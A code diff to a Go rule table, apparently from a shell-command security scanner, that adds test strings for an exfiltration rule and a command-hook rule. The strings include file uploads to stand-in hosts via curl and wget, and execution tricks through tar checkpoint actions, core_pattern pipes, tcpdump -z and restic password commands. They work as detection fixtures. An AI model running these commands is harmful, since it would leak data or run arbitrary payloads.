@@ -356,8 +356,9 @@ var rules = []*rule{
 	{
 		ID: "upload-file", Class: "exfiltration", Sev: high,
 		Msg:     "uploads a local file to a remote host",
-		Must:    []string{"curl -T backup.tar https://files.example.net/drop/", "curl -F upload=@db.dump http://192.0.2.50/"},
-		MustNot: []string{"curl -d '{\"a\":1}' -H 'Content-Type: application/json' https://api.example.com/items", "curl -fsSL https://example.org"},
+		Must:    []string{"curl -T backup.tar https://files.example.net/drop/", "curl -F upload=@db.dump http://192.0.2.50/", "wget --post-file=notes.db http://192.0.2.51/in"},
+		MustNot: []string{"curl -d '{\"a\":1}' -H 'Content-Type: application/json' https://api.example.com/items", "curl -fsSL https://example.org",
+			"curl -X POST --data-binary @payload.bin http://localhost:8080/api"},
 		check:   checkUpload,
 	},
 	{
@@ -688,8 +689,11 @@ var rules = []*rule{
 			"tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=./payload",
 			"sysctl -w 'kernel.core_pattern=|/tmp/h %p'",
 			"tcpdump -i lo -w /dev/null -W 1 -G 1 -z ./rot.sh",
+			"sudo tcpdump -i lo -w /dev/null -W 1 -G 1 -z ./rot.sh",
+			"restic --password-command=/var/tmp/.p/pw snapshots",
 		},
-		MustNot: []string{"GIT_PAGER=cat git log -3", "EDITOR=vim crontab -l", "ssh -o ProxyCommand='ssh -W %h:%p bastion' app1", "tar -I zstd -xf a.tar.zst"},
+		MustNot: []string{"GIT_PAGER=cat git log -3", "EDITOR=vim crontab -l", "ssh -o ProxyCommand='ssh -W %h:%p bastion' app1", "tar -I zstd -xf a.tar.zst",
+			"ssh -o ProxyCommand='nc -X 5 -x proxy.example.net:1080 %h %p' app1", "SSH_ASKPASS=/usr/lib/ssh/x11-ssh-askpass ssh-add", "LESSOPEN='| /usr/bin/lesspipe %s' less notes.gz"},
 		check:   checkCommandHook,
 	},
 	{
